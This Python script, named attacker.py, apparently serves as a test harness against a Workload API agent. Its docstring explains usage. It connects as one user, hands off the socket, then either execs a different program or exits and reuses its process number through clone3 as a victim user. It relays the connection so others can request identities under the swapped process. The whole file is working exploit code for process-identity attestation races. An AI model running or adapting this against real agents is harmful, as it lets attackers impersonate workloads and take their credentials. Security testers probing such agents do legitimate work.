"""
A caller of the Workload API that does not stay who it was. A process connects and gives the connection away; what
becomes of it then is up to the arguments; whoever connects to the relay's socket asks over its connection.

attacker.py API RELAY UID accepted|waiting stays|dies|execs [VICTIM_UID FINAL PROGRAM ARGUMENT...]

stays: goes on as it is. dies: ends, and the program gets its number, as the victim's user. execs: becomes the program.
FINAL is the path of the program that runs in the end, which PROGRAM may start.
accepted: not before the agent has taken the connection. waiting: at once. Prints `connected`, then waits for a line
on its input, and prints `changed` when asking has a point. Needs root, and a kernel with clone3 (5.5).
"""
import ctypes
import os
import select
import signal
import socket
import struct
import sys
import time

PATIENCE_SECONDS = 20
CLONE3 = 435  # the same on every architecture

api, relay, uid, when, what = sys.argv[1:6]
victim_uid, final, program = (int(sys.argv[6]), sys.argv[7], sys.argv[8:]) if len(sys.argv) > 6 else (0, "", [])
libc = ctypes.CDLL(None, use_errno=True)


def become(user):
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)


def fork_with_number(number):
    """As fork, but the child has this process number. Fails when somebody has it."""
    wanted = ctypes.c_int32(number)
    arguments = struct.pack(
        "=11Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, ctypes.addressof(wanted), 1, 0
    )
    child = libc.syscall(CLONE3, arguments, len(arguments))
    if child < 0:
        raise OSError(ctypes.get_errno(), f"cannot have process number {number}")
    return child


def start_caller():
    """The number of a process that has connected, its connection, and what it waits at for its end."""
    here, there = socket.socketpair()
    caller = os.fork()
    if caller == 0:
        signal.signal(signal.SIGTERM, signal.SIG_DFL)
        become(int(uid))
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(api)
        socket.send_fds(there, [b"c"], [connection.fileno()])
        there.recv(1)
        if what == "execs":
            os.execvp(program[0], program)
        if what == "stays":
            signal.pause()
        os._exit(0)
    there.close()
    _, [descriptor], _, _ = socket.recv_fds(here, 1, 1)
    return caller, socket.socket(fileno=descriptor), here


def pump(one, other):
    ends = {one: other, other: one}
    while True:
        for ready in select.select(list(ends), [], [])[0]:
            try:
                data = ready.recv(65536)
            except ConnectionError:
                data = b""
            if not data:
                return
            ends[ready].sendall(data)


signal.signal(signal.SIGTERM, lambda *_: sys.exit())
caller, connection, leash = start_caller()
runs = caller
try:
    if when == "accepted":
        connection.recv(1, socket.MSG_PEEK)  # the agent speaks first
    print("connected", flush=True)
    sys.stdin.readline()
    leash.send(b"g")
    if what == "dies":
        os.waitpid(caller, 0)
        runs = fork_with_number(caller)
        if runs == 0:
            become(victim_uid)
            os.execv(program[0], program)
    end = time.monotonic() + PATIENCE_SECONDS
    while what != "stays" and (runs_now := os.readlink(f"/proc/{runs}/exe")) != final:
        if time.monotonic() > end:
            raise TimeoutError(f"{runs_now} runs, and not {final}")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(relay)
    listener.listen()
    print("changed", flush=True)
    pump(listener.accept()[0], connection)
finally:
    os.kill(runs, signal.SIGKILL)
